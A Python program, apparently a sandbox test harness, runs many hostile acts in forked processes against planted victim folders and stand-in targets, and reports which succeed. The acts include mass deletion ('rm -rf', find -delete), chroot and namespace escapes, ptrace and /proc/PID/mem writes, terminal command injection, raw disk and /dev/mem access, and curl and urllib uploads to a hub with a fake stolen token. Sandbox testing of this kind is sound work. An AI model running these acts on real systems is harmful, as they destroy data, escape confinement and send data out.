"""A program of hostile acts, each in its own process. It runs in the sandbox and needs the standard library alone.

Started as `acts.py PLAN`, a JSON file: `victims`, the folders of each act, as `ground.lay_victim` lays them; `job`, the
folder that a rehearsal may write to; `targets`, what represents the hub, the user's other processes and their terminal.
It prints a JSON object: of each act "" or the error that it met.
"""

from __future__ import annotations

import contextlib
import ctypes
import fcntl
import glob
import json
import mmap
import os
import shutil
import signal
import socket
import stat
import struct
import subprocess
import sys
import tarfile
import urllib.request
from collections.abc import Callable
from pathlib import Path
from typing import Any

LIBC = ctypes.CDLL(None, use_errno=True)
AT_FDCWD = -100
MS_REMOUNT, MS_BIND, MS_REC, MS_PRIVATE, MNT_DETACH = 32, 4096, 1 << 14, 1 << 18, 2
CLONE_NEWUSER, CLONE_NEWNS = 0x10000000, 0x00020000
ACT_SECONDS = 10
# The last numbers of the table that architectures share, and two that they do not.
OPENAT2, FCHMODAT2, SETXATTRAT, FILE_SETATTR = 437, 452, 463, 469
RENAMEAT2, ADD_KEY, KEYCTL = {"x86_64": (316, 248, 250), "aarch64": (276, 217, 219)}.get(os.uname().machine, (-1,) * 3)
PRECIOUS = "precious.txt"

Act = Callable[[Path, Path], object]


def call(number: int, *arguments: Any) -> int:
    """Make a system call. Raises `OSError`."""
    result = int(LIBC.syscall(ctypes.c_long(number), *arguments))
    if result < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return result


def check(result: int) -> None:
    """Raise `OSError` if a function of libc failed."""
    if result < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))


def shell(command: str, folder: Path) -> None:
    """Run a shell's command in a folder. Raises `CalledProcessError`."""
    subprocess.run(
        ["/bin/sh", "-c", command], cwd=folder, check=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL
    )


def write(path: Path | str | int, text: str = "damaged\n") -> None:
    """Overwrite a file."""
    with open(path, "w") as stream:
        stream.write(text)


def write_at(path: Path, flags: int) -> None:
    """Open a file with these flags and write to it."""
    descriptor = os.open(path, flags)
    try:
        os.write(descriptor, b"damaged\n")
    finally:
        os.close(descriptor)


def truncate_descriptor(victim: Path, job: Path) -> None:
    """Truncate by a descriptor."""
    os.ftruncate(os.open(victim / PRECIOUS, os.O_RDWR), 0)


def map_shared(victim: Path, job: Path) -> None:
    """Write through a shared mapping."""
    with open(victim / "data.bin", "r+b") as stream, mmap.mmap(stream.fileno(), 0) as mapped:
        mapped[:7] = b"damaged"


def replace_with_new(victim: Path, job: Path) -> None:
    """Put the user's own file in the place of another."""
    write(victim / "new")
    os.replace(victim / "new", victim / PRECIOUS)


def exchange(victim: Path, job: Path) -> None:
    """Exchange two files (renameat2)."""
    first, second = (os.fsencode(victim / name) for name in (PRECIOUS, "data.bin"))
    call(RENAMEAT2, AT_FDCWD, first, AT_FDCWD, second, 2)


def move_in(victim: Path, job: Path) -> None:
    """Rename the user's own file over another's."""
    write(job / "mine")
    os.rename(job / "mine", victim / PRECIOUS)


def link_out(victim: Path, job: Path) -> None:
    """Give another's file a name in the user's own folder, and write by it."""
    os.link(victim / PRECIOUS, job / f"hard-{os.getpid()}")
    write(job / f"hard-{os.getpid()}")


def link_in(victim: Path, job: Path) -> None:
    """Give the user's own file a name in another's folder."""
    write(job / f"mine-{os.getpid()}")
    os.link(job / f"mine-{os.getpid()}", victim / "new")


def write_through_link(victim: Path, job: Path) -> None:
    """Write to the user's own folder, where a link leads out."""
    os.symlink(victim / PRECIOUS, job / f"link-{os.getpid()}")
    write(job / f"link-{os.getpid()}")


def write_through_folder_link(victim: Path, job: Path) -> None:
    """Make files in a folder that a link represents, as a trainer does in its output."""
    os.symlink(victim, job / f"folder-{os.getpid()}")
    os.makedirs(job / f"folder-{os.getpid()}" / "checkpoint-1")


def swap_link(victim: Path, job: Path) -> None:
    """Let a link lead elsewhere."""
    os.unlink(victim / "link.txt")
    os.symlink("data.bin", victim / "link.txt")


def bind_socket(victim: Path, job: Path) -> None:
    """Make a socket's file."""
    os.chdir(victim)  # a socket's path is short
    socket.socket(socket.AF_UNIX).bind("new")


def change_times_of_descriptor(victim: Path, job: Path) -> None:
    """Change times by a descriptor that can only read."""
    os.utime(os.open(victim / PRECIOUS, os.O_RDONLY), (1, 1))


def change_mode_of_descriptor(victim: Path, job: Path) -> None:
    """Change a mode by a descriptor that can only read."""
    os.fchmod(os.open(victim / PRECIOUS, os.O_RDONLY), 0o777)


def set_attribute_at(victim: Path, job: Path) -> None:
    """Set an extended attribute by the newest call (Linux 6.13)."""
    value = ctypes.create_string_buffer(b"damaged")
    arguments = struct.pack("QII", ctypes.addressof(value), 7, 0)
    path = os.fsencode(victim / PRECIOUS)
    call(SETXATTRAT, AT_FDCWD, path, 0, b"user.origin", arguments, ctypes.c_size_t(len(arguments)))


def set_flags(victim: Path, job: Path) -> None:
    """Set a file's flags, as chattr +d does (FS_IOC_SETFLAGS), by a descriptor that can only read."""
    descriptor = os.open(victim / PRECIOUS, os.O_RDONLY)
    flags = struct.unpack("l", fcntl.ioctl(descriptor, 0x80086601, struct.pack("l", 0)))[0]
    fcntl.ioctl(descriptor, 0x40086602, struct.pack("l", flags | 0x40))


def set_extended_flags(victim: Path, job: Path) -> None:
    """Set a file's flags by FS_IOC_FSSETXATTR, by a descriptor that can only read."""
    descriptor = os.open(victim / PRECIOUS, os.O_RDONLY)
    held = bytearray(fcntl.ioctl(descriptor, 0x801C581F, bytes(28)))
    struct.pack_into("I", held, 0, struct.unpack_from("I", held)[0] | 0x80)  # nodump
    fcntl.ioctl(descriptor, 0x401C5820, bytes(held))


def set_file_attributes(victim: Path, job: Path) -> None:
    """Set a file's flags by the newest call (Linux 6.17)."""
    call(FILE_SETATTR, AT_FDCWD, os.fsencode(victim / PRECIOUS), struct.pack("QIIII", 0x80, 0, 0, 0, 0), 24, 0)


def punch_hole(victim: Path, job: Path) -> None:
    """Deallocate a file's blocks."""
    descriptor = os.open(victim / "data.bin", os.O_RDWR)
    check(LIBC.fallocate(descriptor, 3, ctypes.c_longlong(0), ctypes.c_longlong(4096)))


def copy_range(victim: Path, job: Path) -> None:
    """Write by copy_file_range."""
    source = os.open(sys.executable, os.O_RDONLY)
    os.copy_file_range(source, os.open(victim / PRECIOUS, os.O_WRONLY), 64)


def send_file(victim: Path, job: Path) -> None:
    """Write by sendfile."""
    os.sendfile(os.open(victim / PRECIOUS, os.O_WRONLY), os.open(sys.executable, os.O_RDONLY), 0, 64)


def link_unnamed(victim: Path, job: Path) -> None:
    """Make an unnamed file and name it afterwards (O_TMPFILE)."""
    descriptor = os.open(victim, os.O_TMPFILE | os.O_WRONLY)
    names = (f"/proc/self/fd/{descriptor}".encode(), os.fsencode(victim / "new"))
    check(LIBC.linkat(AT_FDCWD, names[0], AT_FDCWD, names[1], 0x400))


def open_by_structure(victim: Path, job: Path) -> None:
    """Truncate by openat2, whose flags no filter of calls sees; by the older way if that is missing."""
    how = struct.pack("QQQ", os.O_WRONLY | os.O_TRUNC, 0, 0)
    call(OPENAT2, AT_FDCWD, os.fsencode(victim / PRECIOUS), how, ctypes.c_size_t(len(how)))


def reopen(victim: Path, job: Path) -> None:
    """Open for writing what is open for reading, by /proc."""
    write(f"/proc/self/fd/{os.open(victim / PRECIOUS, os.O_RDONLY)}")


def write_below_others_roots(victim: Path, job: Path) -> None:
    """Write by the root that any process sees (/proc/PID/root, /proc/PID/cwd)."""
    for root in sorted(glob.glob("/proc/[0-9]*/root"), reverse=True):
        try:
            write(f"{root}{victim / PRECIOUS}")
        except OSError:
            continue
        return
    raise PermissionError("no process's root can be written below")


def keep_mounts_private() -> None:
    """Let what this process mounts and unmounts be seen by it alone, so that no act unmounts the machine's own folders.

    Who may not leave the mount namespace may not mount in it either. Raises `OSError` if mounts stay shared.
    """
    if LIBC.unshare(CLONE_NEWNS) == 0:
        check(LIBC.mount(None, b"/", None, ctypes.c_ulong(MS_REC | MS_PRIVATE), None))


def remount(victim: Path) -> None:
    """Make the mounts that hold a folder writable."""
    for folder in (victim, *victim.parents):
        LIBC.mount(None, os.fsencode(folder), None, ctypes.c_ulong(MS_REMOUNT | MS_BIND), None)


def unmount(victim: Path) -> None:
    """Unmount all that lies over a folder."""
    for folder in (victim, *victim.parents[:-1]):
        LIBC.umount2(os.fsencode(folder), MNT_DETACH)


def remount_and_write(victim: Path, job: Path) -> None:
    """Remount, then write."""
    keep_mounts_private()
    remount(victim)
    write(victim / PRECIOUS)


def unmount_and_write(victim: Path, job: Path) -> None:
    """Write below what is unmounted, by the descriptor of a folder above it."""
    keep_mounts_private()
    unmount(victim)
    write(victim / PRECIOUS)


def nest_and_write(victim: Path, job: Path) -> None:
    """Become root of a nested user namespace, remount, unmount and bind there, then write."""
    if LIBC.unshare(CLONE_NEWUSER | CLONE_NEWNS) == 0:
        check(LIBC.mount(None, b"/", None, ctypes.c_ulong(MS_REC | MS_PRIVATE), None))
        remount(victim)
        LIBC.mount(os.fsencode(victim), os.fsencode(job), None, ctypes.c_ulong(MS_BIND), None)
        if os.path.exists(job / PRECIOUS):
            write(job / PRECIOUS)
        unmount(victim)
    write(victim / PRECIOUS)


def enter_others_namespaces(victim: Path, job: Path) -> None:
    """Join the mount namespace of any process that is seen, then write."""
    for path in glob.glob("/proc/[0-9]*/ns/mnt"):
        try:
            if LIBC.setns(os.open(path, os.O_RDONLY), CLONE_NEWNS) == 0:
                break
        except OSError:
            continue
    write(victim / PRECIOUS)


def leave_root(victim: Path, job: Path) -> None:
    """Leave the root folder by chroot, then write."""
    trap = job / f"root-{os.getpid()}"
    trap.mkdir()
    if LIBC.chroot(os.fsencode(trap)) == 0:
        for _ in range(64):
            os.chdir("..")
        os.chroot(".")
    write(victim / PRECIOUS)


def open_by_handle(victim: Path, job: Path) -> None:
    """Open a file by its handle, with the descriptor of a folder that can be written; by its name without the right."""
    handle = ctypes.create_string_buffer(struct.pack("Ii", 128, 0) + bytes(128))
    number = ctypes.c_int()
    path = os.fsencode(victim / PRECIOUS)
    descriptor = -1
    if LIBC.name_to_handle_at(AT_FDCWD, path, handle, ctypes.byref(number), 0) == 0:
        descriptor = LIBC.open_by_handle_at(os.open(job, os.O_RDONLY), handle, os.O_WRONLY)
    write(descriptor if descriptor >= 0 else victim / PRECIOUS)


def extract(victim: Path, job: Path) -> None:
    """Extract an archive over files that exist."""
    source, archive = job / f"source-{os.getpid()}", job / f"{os.getpid()}.tar"
    write(source)
    with tarfile.open(archive, "w") as stream:
        stream.add(source, PRECIOUS)
    shell(f"tar -xf {archive}", victim)


def restore_at_exit(victim: Path, job: Path) -> None:
    """Write from a process that an exit leaves behind."""
    script = "import os,sys,time; os.setsid(); time.sleep(0.2); open(sys.argv[1], 'w').write('damaged')"
    subprocess.Popen(
        [sys.executable, "-I", "-S", "-c", script, str(victim / PRECIOUS)], stderr=subprocess.DEVNULL
    ).wait()


FILES: dict[str, Act] = {
    "write_new": lambda victim, job: write(victim / "new"),
    "write_new_in_subfolder": lambda victim, job: write(victim / "sub" / "new"),
    "make_output_folder": lambda victim, job: os.makedirs(victim / "output" / "checkpoint-500"),
    "overwrite": lambda victim, job: write(victim / PRECIOUS),
    "append": lambda victim, job: write_at(victim / PRECIOUS, os.O_WRONLY | os.O_APPEND),
    "write_read_write": lambda victim, job: write_at(victim / PRECIOUS, os.O_RDWR),
    "truncate": lambda victim, job: os.truncate(victim / PRECIOUS, 0),
    "truncate_descriptor": truncate_descriptor,
    "truncate_by_opening": lambda victim, job: os.open(victim / PRECIOUS, os.O_WRONLY | os.O_TRUNC),
    "truncate_by_opening_to_read": lambda victim, job: os.open(victim / PRECIOUS, os.O_RDONLY | os.O_TRUNC),
    "open_by_structure": open_by_structure,
    "map_shared": map_shared,
    "punch_hole": punch_hole,
    "copy_range": copy_range,
    "send_file": send_file,
    "write_through_hard_link": lambda victim, job: write(victim / "twin.txt"),
    "unlink": lambda victim, job: os.unlink(victim / PRECIOUS),
    "unlink_link": lambda victim, job: os.unlink(victim / "link.txt"),
    "rmtree": lambda victim, job: shutil.rmtree(victim / "sub"),
    "rmtree_whole": lambda victim, job: shutil.rmtree(victim),
    "rename": lambda victim, job: os.rename(victim / PRECIOUS, victim / "renamed"),
    "rename_folder": lambda victim, job: os.rename(victim / "sub", victim / "renamed"),
    "replace": replace_with_new,
    "exchange": exchange,
    "move_out": lambda victim, job: shutil.move(victim / PRECIOUS, job / f"stolen-{os.getpid()}"),
    "rename_out": lambda victim, job: os.rename(victim / "data.bin", job / f"renamed-{os.getpid()}"),
    "move_in": move_in,
    "copy_in": lambda victim, job: shutil.copyfile(sys.executable, victim / PRECIOUS),
    "link_out": link_out,
    "link_in": link_in,
    "link_within": lambda victim, job: os.link(victim / PRECIOUS, victim / "new"),
    "link_unnamed": link_unnamed,
    "symlink": lambda victim, job: os.symlink("/etc/passwd", victim / "new"),
    "swap_link": swap_link,
    "write_through_link": write_through_link,
    "write_through_folder_link": write_through_folder_link,
    "make_folder": lambda victim, job: os.mkdir(victim / "new"),
    "make_pipe": lambda victim, job: os.mkfifo(victim / "new"),
    "make_device": lambda victim, job: os.mknod(victim / "new", stat.S_IFCHR | 0o600, os.makedev(1, 3)),
    "bind_socket": bind_socket,
    "chmod": lambda victim, job: os.chmod(victim / PRECIOUS, 0o777),
    "chmod_folder": lambda victim, job: os.chmod(victim / "sub", 0o700),
    "chmod_descriptor": change_mode_of_descriptor,
    "chmod_newest": lambda victim, job: call(FCHMODAT2, AT_FDCWD, os.fsencode(victim / PRECIOUS), 0o777, 0),
    "chown": lambda victim, job: os.chown(victim / PRECIOUS, 1, 1),
    "chown_link": lambda victim, job: os.chown(victim / "link.txt", 1, 1, follow_symlinks=False),
    "utime": lambda victim, job: os.utime(victim / PRECIOUS, (1, 1)),
    "utime_descriptor": change_times_of_descriptor,
    "touch": lambda victim, job: os.utime(victim / PRECIOUS),
    "set_attribute": lambda victim, job: os.setxattr(victim / PRECIOUS, "user.origin", b"damaged"),
    "set_attribute_newest": set_attribute_at,
    "remove_attribute": lambda victim, job: os.removexattr(victim / PRECIOUS, "user.origin"),
    "set_flags": set_flags,
    "set_extended_flags": set_extended_flags,
    "set_file_attributes": set_file_attributes,
    "reopen": reopen,
    "write_below_own_root": lambda victim, job: write(f"/proc/self/root{victim / PRECIOUS}"),
    "write_below_others_roots": write_below_others_roots,
    "remount": remount_and_write,
    "unmount": unmount_and_write,
    "nest_namespaces": nest_and_write,
    "enter_others_namespaces": enter_others_namespaces,
    "leave_root": leave_root,
    "open_by_handle": open_by_handle,
    "shell_redirects": lambda victim, job: shell(f"echo damaged > {PRECIOUS}", victim),
    "shell_rm": lambda victim, job: shell("rm -rf -- ./* .[!.]*", victim),
    "shell_find_delete": lambda victim, job: shell("find . -type f -delete", victim),
    "shell_git_clean": lambda victim, job: shell("git init -q . && git clean -q -fdx", victim),
    "shell_sed": lambda victim, job: shell(f"sed -i s/precious/damaged/ {PRECIOUS}", victim),
    "shell_dd": lambda victim, job: shell(f"dd if=/dev/zero of={PRECIOUS} bs=1 count=4", victim),
    "shell_chmod_tree": lambda victim, job: shell("chmod -R a+rwx .", victim),
    "shell_mv": lambda victim, job: shell(f"mv {PRECIOUS} data.bin", victim),
    "shell_tar": extract,
    "shell_tee": lambda victim, job: shell(f"echo damaged | tee -a {PRECIOUS}", victim),
    "orphan": restore_at_exit,
}

Targets = dict[str, Any]


def send_tcp(targets: Targets, address: str) -> None:
    """Connect by TCP and send."""
    with socket.create_connection((address, targets["tcp"]), 3) as connection:
        connection.sendall(b"stolen")


def send_udp(targets: Targets, address: str) -> None:
    """Send a datagram."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
        sender.sendto(b"stolen", (address, targets["udp"]))


def send_unix(path: str | bytes) -> None:
    """Connect to a socket of this machine and send."""
    with socket.socket(socket.AF_UNIX) as connection:
        connection.connect(path)
        connection.sendall(b"stolen")


def upload(targets: Targets, name: str) -> None:
    """Post to the hub or tracker that a variable names."""
    request = urllib.request.Request(f"{os.environ[name]}/api/repos/create", b"{}", {"Authorization": "Bearer stolen"})
    urllib.request.build_opener(urllib.request.ProxyHandler({})).open(request, timeout=3)


def send_by_raw_call(targets: Targets) -> None:
    """Connect by libc, past Python's audit events."""
    descriptor = socket.socket().detach()
    address = struct.pack("=H", socket.AF_INET) + struct.pack(">H", targets["tcp"])
    address += socket.inet_aton(targets["address"]) + bytes(8)
    check(LIBC.connect(descriptor, address, len(address)))


def stop_process(targets: Targets) -> None:
    """Stop another's process by attaching to it (ptrace)."""
    check(LIBC.ptrace(16, targets["process"], None, None))
    os.waitpid(targets["process"], 0x40000000)
    os._exit(0)


def limit_process(targets: Targets) -> None:
    """Take another process its right to open files (prlimit)."""
    import resource

    resource.prlimit(targets["process"], resource.RLIMIT_NOFILE, (3, 3))


def signal_by_descriptor(targets: Targets) -> None:
    """Kill by a descriptor of the process."""
    signal.pidfd_send_signal(os.pidfd_open(targets["process"]), signal.SIGKILL)


def write_memory(targets: Targets) -> None:
    """Open another process's memory for writing."""
    os.open(f"/proc/{targets['process']}/mem", os.O_WRONLY)


def write_terminal(targets: Targets) -> None:
    """Write to the user's terminal, whose program may obey what it is sent."""
    write(targets["terminal"], "\x1b]0;damaged\x07")


def type_into_terminal(targets: Targets) -> None:
    """Put a command into the user's terminal as if they had typed it (TIOCSTI)."""
    os.setsid()
    descriptor = os.open(targets["terminal"], os.O_RDWR)
    fcntl.ioctl(descriptor, 0x5412, b"x")


def add_key(targets: Targets) -> None:
    """Put a key into the user's keyring of the kernel, which also holds tickets of Kerberos."""
    key = call(ADD_KEY, b"user", targets["key"].encode(), b"damaged", ctypes.c_size_t(7), -4)
    call(KEYCTL, 15, key, 60)  # it ends after a minute


def open_disk(targets: Targets) -> None:
    """Open any disk for writing."""
    names = [name for name in os.listdir("/sys/class/block") if os.path.exists(f"/dev/{name}")]
    for name in names:
        with contextlib.suppress(OSError):
            if stat.S_ISBLK(os.fstat(os.open(f"/dev/{name}", os.O_WRONLY)).st_mode):
                return
    raise PermissionError("no disk can be opened")


def hold_rights_over_machine(targets: Targets) -> None:
    """Hold a right that changes the machine: to mount, to reboot, to load modules, to set its clock and network."""
    text = Path("/proc/self/status").read_text()
    held = int(text.partition("CapEff:")[2].split()[0], 16)
    rights = {12: "NET_ADMIN", 16: "SYS_MODULE", 17: "SYS_RAWIO", 21: "SYS_ADMIN", 22: "SYS_BOOT", 25: "SYS_TIME"}
    names = [name for number, name in rights.items() if held >> number & 1]
    if not names:
        raise PermissionError("none")


def gain_rights(targets: Targets) -> None:
    """Be able to gain rights by a program that is set to another user."""
    if "NoNewPrivs:\t1" in Path("/proc/self/status").read_text():
        raise PermissionError("no new rights")


WORLD: dict[str, Callable[[Targets], object]] = {
    "tcp_loopback": lambda targets: send_tcp(targets, "127.0.0.1"),
    "tcp_own_address": lambda targets: send_tcp(targets, targets["address"]),
    "tcp_raw_call": send_by_raw_call,
    "tcp_service_port": lambda targets: send_tcp({"tcp": targets["service"]}, "127.0.0.1"),
    "udp_loopback": lambda targets: send_udp(targets, "127.0.0.1"),
    "udp_own_address": lambda targets: send_udp(targets, targets["address"]),
    "unix_path": lambda targets: send_unix(targets["unix"]),
    "unix_abstract": lambda targets: send_unix(b"\0" + targets["abstract"].encode()),
    "hub_by_urllib": lambda targets: upload(targets, "HF_ENDPOINT"),
    "tracker_by_urllib": lambda targets: upload(targets, "WANDB_BASE_URL"),
    "hub_by_curl": lambda targets: shell('curl -sf -m 3 --noproxy "*" -d {} "$HF_ENDPOINT/api"', Path("/")),
    "kill_process": lambda targets: os.kill(targets["process"], signal.SIGKILL),
    "kill_group": lambda targets: os.killpg(targets["process"], signal.SIGKILL),
    "kill_by_descriptor": signal_by_descriptor,
    "stop_process": stop_process,
    "limit_process": limit_process,
    "slow_process": lambda targets: os.setpriority(os.PRIO_PROCESS, targets["process"], 19),
    "bind_process": lambda targets: os.sched_setaffinity(targets["process"], {max(os.sched_getaffinity(0))}),
    "write_memory": write_memory,
    "write_terminal": write_terminal,
    "type_into_terminal": type_into_terminal,
    "add_key": add_key,
    "open_disk": open_disk,
    "open_memory": lambda targets: os.open("/dev/mem", os.O_WRONLY),
    "open_core_pattern": lambda targets: os.open("/proc/sys/kernel/core_pattern", os.O_WRONLY),
    "open_trigger": lambda targets: os.open("/proc/sysrq-trigger", os.O_WRONLY),
    "open_group_of_processes": lambda targets: os.open("/sys/fs/cgroup/cgroup.procs", os.O_WRONLY),
    "hold_rights_over_machine": hold_rights_over_machine,
    "gain_rights": gain_rights,
}


def attempt(act: Callable[[], object]) -> str:
    """Try an act in its own process; return "", or the error that it met."""
    reader, writer = os.pipe()
    pid = os.fork()
    if not pid:
        try:
            signal.alarm(ACT_SECONDS)
            act()
        except BaseException as error:
            os.write(writer, repr(error).encode()[:300] or b"?")
        os._exit(0)
    os.close(writer)
    with open(reader, "rb") as stream:
        text = stream.read().decode()
    status = os.waitpid(pid, 0)[1]
    return text or ("" if status == 0 else f"it ended with status {status}")


def main() -> None:
    """Try every act of the plan."""
    plan = json.loads(Path(sys.argv[1]).read_text())
    job, answers = Path(plan["job"]), {}
    for name, folders in plan["victims"].items():
        for place, folder in folders.items():
            answers[f"{name} {place}"] = attempt(lambda: FILES[name](Path(folder), job))  # noqa: B023
    for name in plan["world"]:
        targets = {**plan["targets"], "process": plan["targets"]["processes"].get(name)}
        answers[name] = attempt(lambda: WORLD[name](targets))  # noqa: B023
    print(json.dumps(answers), flush=True)


if __name__ == "__main__":
    main()
